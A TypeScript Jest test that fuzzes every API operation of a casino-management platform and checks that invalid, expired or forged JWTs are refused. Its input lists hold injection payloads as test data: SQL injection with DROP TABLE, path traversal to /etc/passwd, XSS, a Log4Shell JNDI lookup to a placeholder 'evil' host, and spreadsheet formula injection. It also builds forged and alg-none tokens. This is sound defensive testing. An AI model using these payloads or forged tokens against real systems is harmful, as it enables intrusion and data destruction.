/**
 * Hostile input: every operation in the OpenAPI document of the running platform (every service in one
 * process, real PostgreSQL) is fed generated malformed, out-of-range, oversized, deeply nested and wrong-type
 * requests and injection attempts in its path parameters, by a client holding every staff role. None may be
 * answered 5xx or hang, and a refused command changes nothing. Forged, expired, `alg: none`, wrong-secret,
 * foreign-audience and unknown-role tokens are refused on every operation that needs a token.
 * Bounded in count (HOSTILE_RUNS, default 300) so it runs in well under a minute.
 */
import { INestApplication } from '@nestjs/common';
import fc from 'fast-check';
import jwt from 'jsonwebtoken';
import request from 'supertest';
import { INSECURE_DEVELOPMENT_AUTH_SECRET, issueToken, TOKEN_AUDIENCE, TOKEN_ISSUER } from '@app/platform-kit';
import { createTestDatabase, TestDatabase } from '@app/testing';
import { startTestPlatform } from '../support/test-platform';

interface Operation {
  readonly method: 'get' | 'post' | 'put' | 'patch' | 'delete';
  readonly path: string;
  readonly pathParams: readonly string[];
  readonly queryParams: readonly string[];
  readonly bodyProperties: readonly string[];
  readonly needsToken: boolean;
}

const SECRET = INSECURE_DEVELOPMENT_AUTH_SECRET;
const STAFF = `Bearer ${issueToken(
  { sub: 'hostile-1', name: 'Hostile', roles: ['casino-manager', 'jackpot-console', 'tournament-director', 'administrator'], jurisdictions: ['NSW', 'VIC'], casinos: ['crown-melbourne', 'crown-sydney', 'star-sydney'] },
  SECRET,
  600,
)}`;
const RUNS = Number(process.env.HOSTILE_RUNS ?? 300);

const INJECTIONS = [
  "' OR '1'='1",
  "1; DROP TABLE tables.events;--",
  '../../../../etc/passwd',
  '%00',
  '%2e%2e%2f',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil/x}',
  '{{7*7}}',
  'a'.repeat(5000),
  '%E0%A4%A',
  '%F0%9F%92%A9',
  '%ED%A0%80',
  '__proto__',
  'constructor',
  '-1',
  '1e308',
  'NaN',
];

const hostileText = fc.oneof(
  fc.constantFrom('\u0000', 'x\u0000y', '\ud800', '\udc00x', '=HYPERLINK("http://evil")', '+1+1', '@SUM(A1)', '<img src=x onerror=alert(1)>', 'a'.repeat(20_000), ''),
  fc.string({ maxLength: 40 }),
);
const hostileNumber = fc.constantFrom(1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, -1, 0, 0.5, 2 ** 31, 2 ** 63);
const wrongType = fc.oneof(fc.constant(null), fc.boolean(), hostileNumber, hostileText, fc.array(fc.integer(), { maxLength: 3 }), fc.constant({}));
// Sent as raw text: fast-check could not print a 10,000-deep value when reporting a counterexample.
const deep = (property: string) => fc.integer({ min: 40, max: 10_000 }).map((depth) => `{"${property}":${'['.repeat(depth)}${']'.repeat(depth)}}`);

const bodyFor = (op: Operation) =>
  fc.oneof(
    fc.dictionary(fc.constantFrom(...(op.bodyProperties.length > 0 ? op.bodyProperties : ['x'])), wrongType, { maxKeys: 6 }),
    fc.record(Object.fromEntries(op.bodyProperties.map((p) => [p, wrongType]))),
    fc.jsonValue({ maxDepth: 4 }),
    deep(op.bodyProperties[0] ?? 'x'),
    fc.constant('{"unterminated": '),
  );

const pathOf = (op: Operation, values: readonly string[]): string =>
  op.pathParams.reduce((p, name, i) => p.replace(`{${name}}`, encodeURIComponent(values[i]).replace(/%25/g, '%')), op.path);

/**
 * Operations that answer without a token by design: health and metrics, the display and console pages (they sign
 * in themselves), the session exchanges (the token is in the body), the vocabulary and calendars a console builds
 * its screens from, a promotion's public draw (anyone re-runs it, Star 16) and the tournament floor board.
 */
const PUBLIC_PATHS = [
  /^\/health/,
  /^\/metrics/,
  /\/display$/,
  /^\/dashboard(\/session)?$/,
  /^\/jackpot-console(\/session)?$/,
  /^\/rulebooks/,
  /^\/reporting\/calendars$/,
  /^\/rapid\/(ats|sgc)$/,
  /^\/promotions\/\{promotionId\}\/draw(\/page)?$/,
  /^\/tournaments\/\{tournamentId\}\/standings\/page$/,
];

describe('hostile input against every operation of the running platform', () => {
  let db: TestDatabase;
  let app: INestApplication;
  let operations: Operation[] = [];
  const http = () => request(app.getHttpServer());
  const eventCount = async () =>
    Number((await db.pool.query('SELECT (SELECT count(*) FROM tables.events) + (SELECT count(*) FROM jackpots.events) AS n')).rows[0].n);

  beforeAll(async () => {
    process.env.LOG_LEVEL = 'fatal';
    process.env.RATE_LIMIT_PER_SECOND = '0';
    process.env.RATE_LIMIT_ANONYMOUS_PER_SECOND = '0';
    db = await createTestDatabase('hostile', 2);
    app = await startTestPlatform(db, { poolSize: 12 });
    const doc = (await http().get('/docs-json').expect(200)).body as {
      paths: Record<string, Record<string, { parameters?: { in: string; name: string }[]; security?: unknown[]; requestBody?: { content?: Record<string, { schema?: { $ref?: string } }> } }>>;
      components?: { schemas?: Record<string, { properties?: Record<string, unknown> }> };
    };
    operations = Object.entries(doc.paths).flatMap(([path, methods]) =>
      Object.entries(methods)
        // A live feed never ends by design: it is the one operation a request cannot wait for.
        .filter(([, op]) => !path.endsWith('/stream') && op !== undefined)
        .map(([method, op]) => {
          const ref = op.requestBody?.content?.['application/json']?.schema?.$ref?.split('/').pop();
          return {
            method: method as Operation['method'],
            path,
            pathParams: (op.parameters ?? []).filter((p) => p.in === 'path').map((p) => p.name),
            queryParams: (op.parameters ?? []).filter((p) => p.in === 'query').map((p) => p.name),
            bodyProperties: Object.keys(ref ? (doc.components?.schemas?.[ref]?.properties ?? {}) : {}),
            needsToken: !PUBLIC_PATHS.some((p) => p.test(path)),
          };
        }),
    );
  });

  afterAll(async () => {
    await app?.close();
    await db?.drop();
  });

  it('the document lists the operations of every service', () => {
    const prefixes = new Set(operations.map((o) => o.path.split('/')[1]));
    expect([...prefixes]).toEqual(expect.arrayContaining(['tables', 'jackpots', 'reporting', 'health']));
  });

  it('no generated request is answered 5xx or hangs, and no refused command changes anything', async () => {
    const seen: { op: string; status: number }[] = [];
    await fc.assert(
      fc.asyncProperty(
        fc.integer({ min: 0, max: 1_000_000 }).chain((i) => {
          const op = operations[i % operations.length];
          return fc.record({
            op: fc.constant(op),
            pathValues: fc.array(fc.oneof(fc.constantFrom(...INJECTIONS), fc.string({ minLength: 1, maxLength: 30 })), { minLength: op.pathParams.length, maxLength: op.pathParams.length }),
            query: fc.dictionary(fc.constantFrom(...(op.queryParams.length > 0 ? op.queryParams : ['q']), 'afterVersion', '__proto__'), fc.constantFrom(...INJECTIONS)),
            body: bodyFor(op),
          });
        }),
        async ({ op, pathValues, query, body }) => {
          const before = op.method === 'get' ? 0 : await eventCount();
          let req = http()[op.method](pathOf(op, pathValues)).query(query).set('Authorization', STAFF).timeout({ response: 15_000 });
          if (op.method !== 'get') req = req.set('Content-Type', 'application/json').send(typeof body === 'string' ? body : JSON.stringify(body));
          const res = await req;
          seen.push({ op: `${op.method.toUpperCase()} ${op.path}`, status: res.status });
          if (res.status >= 500) throw new Error(`${op.method.toUpperCase()} ${op.path} answered ${res.status}: ${JSON.stringify(res.body)}`);
          if (op.method !== 'get' && res.status >= 400) expect(await eventCount()).toBe(before);
        },
      ),
      { numRuns: RUNS, seed: Number(process.env.HOSTILE_SEED ?? 15) },
    );
    expect(seen.length).toBe(RUNS);
  });

  it('forged, expired, alg none, wrong-secret, foreign-audience, unknown-role, casino-less and casino-widened tokens are refused on every operation that needs one', async () => {
    const ours = { audience: TOKEN_AUDIENCE, issuer: TOKEN_ISSUER };
    const roles = ['casino-manager'];
    const [header, , signature] = STAFF.slice(7).split('.');
    const bad: Record<string, string> = {
      forged: `${header}.${Buffer.from(JSON.stringify({ sub: 'eve', roles, exp: 9_999_999_999, ...ours })).toString('base64url')}.${signature}`,
      expired: issueToken({ sub: 'eve', name: 'eve', roles: ['casino-manager'], casinos: ['crown-melbourne'] }, SECRET, -120),
      algNone: jwt.sign({ roles }, '', { algorithm: 'none', subject: 'eve', expiresIn: 60, ...ours }),
      wrongSecret: issueToken({ sub: 'eve', name: 'eve', roles: ['casino-manager'], casinos: ['crown-melbourne'] }, 'guessed-secret', 60),
      foreignAudience: jwt.sign({ roles }, SECRET, { algorithm: 'HS256', subject: 'eve', expiresIn: 60, audience: 'another-app', issuer: TOKEN_ISSUER }),
      unknownRole: jwt.sign({ roles: ['pit-boss'] }, SECRET, { algorithm: 'HS256', subject: 'eve', expiresIn: 60, ...ours }),
      // Staff act only at their own casino: a staff token naming no casino, or one no rulebook names, is no token.
      noCasino: jwt.sign({ roles }, SECRET, { algorithm: 'HS256', subject: 'eve', expiresIn: 60, ...ours }),
      unknownCasino: jwt.sign({ roles, casinos: ['crown-perth'] }, SECRET, { algorithm: 'HS256', subject: 'eve', expiresIn: 60, ...ours }),
      casinoWidened: `${header}.${Buffer.from(JSON.stringify({ sub: 'hostile-1', roles, casinos: ['crown-melbourne', 'crown-sydney', 'star-sydney'], exp: 9_999_999_999, ...ours })).toString('base64url')}.${signature}`,
    };
    const bypasses: string[] = [];
    for (const op of operations.filter((o) => o.needsToken)) {
      for (const [kind, token] of Object.entries(bad)) {
        const path = pathOf(op, op.pathParams.map(() => 'T1'));
        const res = await http()[op.method](path).set('Authorization', `Bearer ${token}`).send(op.method === 'get' ? undefined : {});
        if (res.status !== 401) bypasses.push(`${kind}: ${op.method.toUpperCase()} ${op.path} -> ${res.status}`);
      }
    }
    expect(bypasses).toEqual([]);
  });
});
